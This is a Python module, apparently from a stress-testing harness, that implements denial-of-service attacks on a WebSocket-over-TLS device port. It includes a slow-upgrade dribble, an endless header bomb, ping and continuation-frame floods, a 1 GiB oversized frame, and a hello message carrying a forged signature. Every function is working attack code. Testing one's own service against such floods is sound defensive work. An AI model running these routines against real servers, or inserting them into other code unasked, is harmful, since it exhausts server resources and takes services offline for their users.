"""The attacks on the device port (WebSocket over TLS): what each connection does once set up."""
import asyncio
import json
import os
import secrets
import struct

from attack.wire import b64url, mask, upgrade_request, ws_frame
from attack.provider import dribble


async def slow_upgrade(conn):
    await dribble(conn, upgrade_request(conn.group.port))


async def header_bomb(conn):
    await conn.send(f"GET /v1/link HTTP/1.1\r\nHost: localhost:{conn.group.port}\r\nUpgrade: websocket\r\n"
                    f"Connection: Upgrade\r\nX-Bomb: ".encode())
    chunk = b"a" * 65536
    while True:
        await conn.send(chunk)
        await asyncio.sleep(0)


async def ws_ping_flood(conn):
    batch = b"".join(ws_frame(0x9, os.urandom(125)) for _ in range(100))
    while True:
        await conn.send(batch, frames=100)
        await asyncio.sleep(0)


async def ws_continuation_flood(conn):
    await conn.send(ws_frame(0x1, b"{", fin=False))
    batch = b"".join(ws_frame(0x0, b"", fin=False) for _ in range(2000))
    while True:
        await conn.send(batch, frames=2000)
        await asyncio.sleep(0)


async def ws_oversized(conn):
    key = os.urandom(4)
    await conn.send(bytes([0x81, 0x80 | 127]) + struct.pack(">Q", 1 << 30) + key)
    chunk = mask(b"a" * 65536, key)
    sent = 0
    while sent < 1 << 30:
        await conn.send(chunk)
        sent += len(chunk)
        await asyncio.sleep(0)
    await asyncio.Future()


async def bad_hello(conn):
    keys = conn.worker.public_keys
    hello = json.dumps({"type": "hello", "version": 1, "publicKey": b64url(keys[secrets.randbelow(len(keys))]),
                        "signature": b64url(os.urandom(64))}).encode()
    await conn.send(ws_frame(0x1, hello))
    await asyncio.Future()
